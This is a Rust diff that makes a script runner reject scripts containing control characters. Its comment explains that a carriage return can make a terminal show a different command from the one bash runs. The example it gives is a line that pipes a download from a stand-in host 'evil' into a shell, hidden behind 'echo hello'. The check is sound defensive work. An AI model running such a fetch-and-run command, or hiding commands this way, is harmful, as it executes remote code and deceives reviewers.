@@ -46,6 +46,21 @@ pub fn run_script(cx: &mut Cx, node: &Node, what: &str) -> Option<Command> {
         );
         return None;
     }
+    // A carriage return or an escape sequence makes a terminal show something other than
+    // what bash will run (`curl evil | sh #\r echo hello` reads as `echo hello`).
+    if let Some((at, c)) = script
+        .char_indices()
+        .find(|&(_, c)| c.is_control() && c != '\n' && c != '\t')
+    {
+        cx.error(
+            Diagnostic::error(
+                pos_in(node, at),
+                format!("{what} holds the control character {c:?}, which would hide part of the script on a terminal"),
+            )
+            .hint("write the script with printable characters only (use printf escapes inside it if a command needs them)"),
+        );
+        return None;
+    }
     Some(Command::Run {
         script,
         pos: node.pos,
